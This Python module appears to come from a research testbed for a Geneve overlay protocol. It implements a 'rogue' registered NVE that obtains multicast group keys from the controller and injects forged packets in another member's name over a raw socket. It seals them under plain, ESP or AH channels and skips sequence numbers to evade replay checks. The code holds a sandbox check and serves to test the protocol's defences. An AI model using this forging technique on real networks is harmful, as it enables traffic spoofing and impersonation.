"""A registered NVE that turned rogue: ``python -m experiments.rogue``, one JSON command a line, one answer a line.

It runs in an NVE's place with its certificate, gets from the NVA what that NVE may have, and forges packets of
another member of a multicast group with the group's key, which every member holds. Its own signature is all that
it can put on them, and under IPsec not even that is asked for. It refuses to run outside the sandbox.
"""

from __future__ import annotations

import argparse
import json
import secrets
import socket
import sys
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Raw

from experiments.attack_frames import Addresses, forged
from experiments.traffic import PORT, build_message
from geneve.control.channel import IP_PROTOCOL_ESP, ChannelProtocol
from geneve.control.profile import Profile
from geneve.control.state import Association, AssociationRole, NodeState
from geneve.header import BASE_HEADER_SIZE
from geneve.outer import build_datagram, build_frame
from geneve.security.association import OutboundAssociation
from geneve.security.seal import Item, PacketSealer
from geneve.security.signature import SEED_SIZE, SourceSigner
from nve.config import load_config
from nve.control import make_agent
from nve.ipsec.sa import OutboundSa
from nve.ipsec.sealer import IpsecSealer
from nve.poller import Poller
from topologies import sandbox

_PATIENCE = 10.0
_QUIET = 1.0
"""Seconds without another key after which the newest is taken for the one that stays."""
_AHEAD = 1_000_000
"""Sequence numbers that the forger skips, so that nothing it sends is taken for old."""


class Member:
    """The rogue's connection to the NVA and the newest state it was given."""

    def __init__(self, config: Path) -> None:
        self.signer = SourceSigner.from_seed(secrets.token_bytes(SEED_SIZE))
        self._poller = Poller()
        self.state: NodeState | None = None
        loaded = load_config(config)
        assert loaded.nva is not None
        self._agent = make_agent(
            loaded.name, loaded.nva, self._take, self._poller, self.signer.public_key()
        )

    def _take(self, state: NodeState) -> None:
        self.state = state

    def wait_for_key(self, sender: str, group: str) -> tuple[Association, Profile]:
        """Return the association of ``sender`` for ``group`` that all members have in the end.

        A member that joins makes the NVA replace the group's keys: what comes first is not what stays.
        """
        end = time.monotonic() + _PATIENCE
        quiet_since, last = time.monotonic(), None
        while time.monotonic() < end:
            self._agent.run_timers(time.monotonic())
            self._poller.turn(0.1)
            state = self.state
            found = [held for held in state.inbound if held.role is AssociationRole.MULTICAST] if state else []
            newest = next((held for held in found[::-1] if (held.sender, held.audience) == (sender, group)), None)
            if newest is None or newest != last:
                quiet_since, last = time.monotonic(), newest
            elif state is not None and time.monotonic() - quiet_since > _QUIET:
                return newest, next(profile for profile in state.profiles if profile.name == newest.profile)
        raise RuntimeError(f"the NVA gave no key of {sender} for {group}")

    def close(self) -> None:
        """Leave the NVA."""
        self._agent.close()


def forge(order: dict[str, Any], own_mac: str, member: Member | None) -> list[bytes]:
    """Return the frames of one ``forge`` command: plain ones for a network without protection."""
    inner = [_inner(order, index) for index in range(order["count"])]
    if member is None:
        addresses = Addresses.from_dict({"outer_source_mac": own_mac, **order["addresses"]})
        return [forged(addresses, order["vni"], _payload(order, index)) for index in range(order["count"])]
    held = member.wait_for_key(order["sender"], order["group"])
    outer = order["addresses"]
    macs = [bytes.fromhex(mac.replace(":", "")) for mac in (own_mac, outer["outer_destination_mac"])]
    return [build_frame(macs[0], macs[1], packet) for packet in sealed(order, inner, held, member.signer)]


def sealed(
    order: dict[str, Any], frames: Sequence[bytes], held: tuple[Association, Profile], signer: SourceSigner
) -> list[bytes]:
    """Return whole IP packets with ``frames``, in the name of the sender whose key and profile are ``held``.

    They are made as that sender would make them: with a security option and a signature, which can only be the
    rogue's own, or in ESP or AH. ValueError for another channel.
    """
    association, profile = held
    source, destination = order["addresses"]["outer_source"], order["addresses"]["outer_destination"]
    items = [Item(frame) for frame in frames]
    if profile.channel is None:
        outbound = OutboundAssociation(association, profile)
        outbound.resume(_AHEAD, outbound.hard_limit)
        packets = PacketSealer(order["vni"], outbound, signer=signer).seal(items)
        return [build_datagram(source, destination, 50000, packet) for packet in packets]
    sa = OutboundSa(association, profile)
    sa.resume(_AHEAD, sa.hard_limit)
    largest = max(map(len, frames)) + BASE_HEADER_SIZE
    packets = IpsecSealer(order["vni"], sa, source, destination, largest).seal(items)
    if profile.channel.protocol is ChannelProtocol.AH:
        return [_with_checksum(packet) for packet in packets]
    return [bytes(IP(src=source, dst=destination, proto=IP_PROTOCOL_ESP) / Raw(packet)) for packet in packets]


def _with_checksum(packet: bytes) -> bytes:
    """Return an IPv4 packet with its header's checksum, which a kernel would write."""
    whole = IP(packet)
    del whole.chksum
    return bytes(whole)


def _payload(order: dict[str, Any], index: int) -> bytes:
    return build_message(order["label"], 0, index, order["size"])


def _inner(order: dict[str, Any], index: int) -> bytes:
    addresses = order["addresses"]
    frame = (
        Ether(src=addresses["inner_source_mac"], dst=addresses["inner_destination_mac"])
        / IP(src=addresses["inner_source"], dst=addresses["inner_destination"])
        / UDP(sport=PORT, dport=PORT)
        / Raw(_payload(order, index))
    )
    return bytes(frame)


def main(arguments: Sequence[str] | None = None) -> int:
    """Entry point."""
    parser = argparse.ArgumentParser(prog="experiments.rogue", description="A registered NVE that forges.")
    parser.add_argument("interface", help="the NVE's interface on the underlay")
    parser.add_argument("--config", type=Path, help="the configuration of the NVE whose place this is")
    options = parser.parse_args(arguments)
    if not sandbox.within():
        print("experiments.rogue: refused: attacks run in the testbed's sandbox only.", file=sys.stderr)
        return 2
    member = Member(options.config) if options.config else None
    endpoint = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    endpoint.bind((options.interface, 0))
    own_mac = ":".join(f"{byte:02x}" for byte in endpoint.getsockname()[4])
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        frames = forge(json.loads(line), own_mac, member)
        for frame in frames:
            endpoint.send(frame)
        print(json.dumps({"forged": len(frames)}), flush=True)
    if member is not None:
        member.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
